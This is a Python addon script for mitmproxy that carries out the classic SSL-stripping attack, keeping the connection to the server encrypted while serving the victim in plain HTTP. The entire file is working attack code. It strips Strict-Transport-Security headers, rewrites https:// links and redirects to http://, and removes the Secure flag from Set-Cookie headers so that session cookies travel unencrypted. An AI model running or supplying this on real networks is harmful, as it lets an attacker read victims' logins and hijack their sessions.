"""For mitmproxy, in whose process it runs: the classic SSL stripping. Encrypted towards the server, plain towards the victim."""

from __future__ import annotations

import re
from typing import Any


def request(flow: Any) -> None:
    """Ask the server over TLS what the victim asked in plain."""
    flow.request.headers.pop("If-Modified-Since", None)
    flow.request.headers.pop("Upgrade-Insecure-Requests", None)
    flow.request.scheme = "https"
    flow.request.port = 443


def response(flow: Any) -> None:
    """Take the encryption out of what comes back."""
    headers = flow.response.headers
    headers.pop("Strict-Transport-Security", None)
    if "Location" in headers:
        headers["Location"] = headers["Location"].replace("https://", "http://", 1)
    flow.response.content = re.sub(rb"https://", b"http://", flow.response.content or b"")
    if "Set-Cookie" in headers:
        cookies = headers.get_all("Set-Cookie")
        headers.set_all("Set-Cookie", [re.sub(r";\s*secure\b", "", cookie, flags=re.IGNORECASE) for cookie in cookies])
